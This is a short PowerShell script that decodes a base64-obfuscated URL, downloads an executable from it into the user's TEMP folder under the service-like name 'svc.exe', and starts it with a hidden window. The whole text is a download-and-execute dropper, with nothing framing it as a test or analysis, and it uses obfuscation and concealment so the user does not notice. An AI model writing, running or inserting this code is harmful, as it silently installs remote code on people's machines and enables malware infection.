$u = 'aHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQvcC5leGU='
$d = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($u))
(New-Object Net.WebClient).DownloadFile($d, "$env:TEMP\svc.exe")
Start-Process "$env:TEMP\svc.exe" -WindowStyle Hidden
